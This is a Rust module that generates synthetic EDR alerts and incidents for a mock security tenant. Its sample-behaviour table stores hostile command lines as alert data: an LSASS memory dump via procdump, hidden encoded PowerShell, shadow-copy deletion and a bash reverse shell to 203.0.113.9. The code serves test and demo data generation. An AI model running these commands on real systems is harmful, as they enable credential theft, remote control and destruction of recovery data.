//! Alerts on hosts and the incidents that group them.

use jiff::Timestamp;
use serde::Serialize;

use super::fleet::Host;
use super::people::{DAY, ago, later};
use super::{TenantSpec, User};
use crate::rng::SplitMix64;

/// An endpoint alert (`detects.Alert`, product `epp`).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Alert {
    /// `<cid>:ind:<aid>:<process>-<pattern>-<sequence>`.
    pub composite_id: String,
    /// `ind:<aid>:<process>-<pattern>-<sequence>`.
    pub id: String,
    /// The host's AID.
    pub agent_id: String,
    /// 1–100; 20–39 low, 40–59 medium, 60–79 high, 80+ critical.
    pub severity: u32,
    /// The detection's name.
    pub name: String,
    /// Free-text explanation.
    pub description: String,
    /// MITRE tactic.
    pub tactic: String,
    /// MITRE tactic id.
    pub tactic_id: String,
    /// MITRE technique.
    pub technique: String,
    /// MITRE technique id.
    pub technique_id: String,
    /// The IOA pattern id.
    pub pattern_id: u32,
    /// `new`, `in_progress`, `closed` or `reopened`.
    pub status: String,
    /// Tags analysts added.
    pub tags: Vec<String>,
    /// The user logged in on the host when the alert fired.
    pub user_name: String,
    /// The UUID of the console user it is assigned to, or empty.
    pub assigned_to_uuid: String,
    /// The triggering file name.
    pub filename: String,
    /// The triggering command line.
    pub cmdline: String,
    /// SHA-256 of the triggering file.
    pub sha256: String,
    /// When the behaviour happened.
    pub timestamp: Timestamp,
    /// When the alert was created.
    pub created_timestamp: Timestamp,
    /// When the alert was last changed.
    pub updated_timestamp: Timestamp,
    /// Analyst comments, oldest first.
    pub comments: Vec<String>,
    /// Whether the alert shows in the console.
    pub show_in_ui: bool,
}

/// An incident: alerts on one host grouped together.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Incident {
    /// `inc:<aid>:<32 hex>`.
    pub incident_id: String,
    /// The hosts involved.
    pub host_ids: Vec<String>,
    /// Composite ids of the grouped alerts.
    pub alert_ids: Vec<String>,
    /// The incident's name; may contain non-ASCII letters and quotes.
    pub name: String,
    /// Free text.
    pub description: String,
    /// `open` or `closed`.
    pub state: String,
    /// 20 new, 25 reopened, 30 in progress, 40 closed.
    pub status: u32,
    /// Score times ten.
    pub fine_score: u32,
    /// The assignee's UUID, or empty.
    pub assigned_to: String,
    /// Tags.
    pub tags: Vec<String>,
    /// First activity.
    pub start: Timestamp,
    /// Last activity.
    pub end: Timestamp,
    /// When it was created.
    pub created: Timestamp,
    /// When it changed last.
    pub modified_timestamp: Timestamp,
}

/// (name, tactic, tactic id, technique, technique id, pattern id, base severity, file, cmdline)
type Behaviour = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    u32,
    u32,
    &'static str,
    &'static str,
);

const BEHAVIOURS: &[Behaviour] = &[
    (
        "PrewittPupAdwareSensorDetect-Lowest",
        "Machine Learning",
        "CSTA0004",
        "Adware/PUP",
        "CST0000",
        5761,
        30,
        "vpn-client-install.exe",
        "\"C:\\Users\\{u}\\Downloads\\vpn-client-install.exe\"",
    ),
    (
        "CredentialDumpingLsass",
        "Credential Access",
        "TA0006",
        "OS Credential Dumping",
        "T1003",
        10197,
        90,
        "procdump64.exe",
        "procdump64.exe -ma lsass.exe C:\\Temp\\l.dmp",
    ),
    (
        "EncodedPowerShell",
        "Execution",
        "TA0002",
        "PowerShell",
        "T1059.001",
        10125,
        70,
        "powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
    ),
    (
        "RansomwareShadowCopyDelete",
        "Impact",
        "TA0040",
        "Inhibit System Recovery",
        "T1490",
        10287,
        95,
        "vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    (
        "SuspiciousLaunchAgent",
        "Persistence",
        "TA0003",
        "Launch Agent",
        "T1543.001",
        20345,
        50,
        "com.update.plist",
        "launchctl load ~/Library/LaunchAgents/com.update.plist",
    ),
    (
        "ReverseShellBash",
        "Command and Control",
        "TA0011",
        "Non-Application Layer Protocol",
        "T1095",
        30412,
        80,
        "bash",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    ),
    (
        "DiscoveryNetScan",
        "Discovery",
        "TA0007",
        "Network Service Discovery",
        "T1046",
        10455,
        20,
        "nmap",
        "nmap -sS 10.0.0.0/24",
    ),
    (
        "MaliciousDocumentMacro",
        "Initial Access",
        "TA0001",
        "Spearphishing Attachment",
        "T1566.001",
        10602,
        65,
        "WINWORD.EXE",
        "WINWORD.EXE /n \"Facture_Müller's.docm\"",
    ),
];

const INCIDENT_NAMES: &[&str] = &[
    "Credential theft on {h}",
    "Ransomware precursor on {h}",
    "Incident « accès suspect » on {h}",
    "Suspicious \"living off the land\" activity on {h}",
    "Lateral movement from {h}",
];

/// `spec.alerts` alerts on `hosts`; a few hosts draw most of them, as in real
/// tenants where one noisy machine dominates.
pub(super) fn alerts(spec: &TenantSpec, cid: &str, hosts: &[Host], users: &[User]) -> Vec<Alert> {
    let mut rng = SplitMix64::stream(spec.seed, "alerts");
    if hosts.is_empty() {
        return Vec::new();
    }
    let anchor = spec.anchor.as_second();
    let hot = (hosts.len() / 20).max(1);
    (0..spec.alerts)
        .map(|i| {
            let host = match rng.below(3) {
                0 => &hosts[rng.below(hot as u64) as usize],
                _ => rng.pick(hosts),
            };
            alert(&mut rng, i, cid, anchor, host, users)
        })
        .collect()
}

fn alert(
    rng: &mut SplitMix64,
    i: usize,
    cid: &str,
    anchor: i64,
    host: &Host,
    users: &[User],
) -> Alert {
    let b = *rng.pick(BEHAVIOURS);
    let process = 300_000_000_000 + rng.below(99_999_999_999);
    let id = format!("ind:{}:{process}-{}-{}", host.device_id, b.5, 1000 + i);
    let created = ago(rng, anchor, 600, 45 * DAY);
    let at = ago(rng, created.as_second(), 5, 120);
    let status = match rng.below(10) {
        0..=4 => "new",
        5..=6 => "in_progress",
        7..=8 => "closed",
        _ => "reopened",
    };
    let assigned = if status != "new" && !users.is_empty() {
        rng.pick(users).uuid.clone()
    } else {
        String::new()
    };
    let severity = (b.6 as i64 + rng.between(-5, 5)).clamp(1, 100) as u32;
    let user = if host.last_login_user.is_empty() {
        "SYSTEM"
    } else {
        &host.last_login_user
    };
    Alert {
        composite_id: format!("{cid}:{id}"),
        id,
        agent_id: host.device_id.clone(),
        severity,
        name: b.0.to_owned(),
        description: format!("{} detected: {} on {}", b.3, b.7, host.hostname),
        tactic: b.1.to_owned(),
        tactic_id: b.2.to_owned(),
        technique: b.3.to_owned(),
        technique_id: b.4.to_owned(),
        pattern_id: b.5,
        status: status.to_owned(),
        tags: Vec::new(),
        user_name: user.to_owned(),
        assigned_to_uuid: assigned,
        filename: b.7.to_owned(),
        cmdline: b.8.replace("{u}", user),
        sha256: rng.hex(64),
        timestamp: at,
        created_timestamp: created,
        updated_timestamp: later(rng, created.as_second(), 60, DAY),
        comments: Vec::new(),
        show_in_ui: true,
    }
}

/// `spec.incidents` incidents, each grouping up to five alerts of one host.
pub(super) fn incidents(
    spec: &TenantSpec,
    alerts: &[Alert],
    hosts: &[Host],
    users: &[User],
) -> Vec<Incident> {
    let mut rng = SplitMix64::stream(spec.seed, "incidents");
    if alerts.is_empty() {
        return Vec::new();
    }
    let mut by_host: std::collections::HashMap<&str, Vec<&Alert>> =
        std::collections::HashMap::new();
    for a in alerts {
        by_host.entry(&a.agent_id).or_default().push(a);
    }
    // Hosts in tenant order keep the result independent of hash order.
    let with_alerts: Vec<&Host> = hosts
        .iter()
        .filter(|h| by_host.contains_key(h.device_id.as_str()))
        .collect();
    (0..spec.incidents.min(with_alerts.len()))
        .map(|i| {
            let host = with_alerts[(i * 7919) % with_alerts.len()];
            incident(&mut rng, host, &by_host[host.device_id.as_str()], users)
        })
        .collect()
}

fn incident(rng: &mut SplitMix64, host: &Host, alerts: &[&Alert], users: &[User]) -> Incident {
    let grouped: Vec<&&Alert> = alerts.iter().take(5).collect();
    let start = grouped
        .iter()
        .map(|a| a.timestamp)
        .min()
        .unwrap_or(host.last_seen);
    let end = grouped
        .iter()
        .map(|a| a.created_timestamp)
        .max()
        .unwrap_or(start);
    let max_severity = grouped.iter().map(|a| a.severity).max().unwrap_or(10);
    let status = *rng.pick(&[20, 20, 25, 30, 40]);
    Incident {
        incident_id: format!("inc:{}:{}", host.device_id, rng.hex(32)),
        host_ids: vec![host.device_id.clone()],
        alert_ids: grouped.iter().map(|a| a.composite_id.clone()).collect(),
        name: rng.pick(INCIDENT_NAMES).replace("{h}", &host.hostname),
        description: format!("{} related alerts", grouped.len()),
        state: if status == 40 { "closed" } else { "open" }.to_owned(),
        status,
        fine_score: max_severity * 10,
        assigned_to: if status == 20 || users.is_empty() {
            String::new()
        } else {
            rng.pick(users).uuid.clone()
        },
        tags: Vec::new(),
        start,
        end,
        created: end,
        modified_timestamp: end,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tenant::Tenant;

    #[test]
    fn alerts_belong_to_hosts_and_incidents_to_alerts() {
        let t = Tenant::generate(&TenantSpec::demo());
        assert_eq!(t.alerts.len(), TenantSpec::demo().alerts);
        let aids: std::collections::HashSet<&str> =
            t.hosts.iter().map(|h| h.device_id.as_str()).collect();
        assert!(t.alerts.iter().all(|a| aids.contains(a.agent_id.as_str())));
        assert!(
            t.alerts.iter().any(|a| a.severity >= 80) && t.alerts.iter().any(|a| a.severity < 40)
        );
        for inc in &t.incidents {
            assert!(inc.alert_ids.iter().all(|id| id.contains(&inc.host_ids[0])));
        }
        assert!(!t.incidents.is_empty());
    }
}
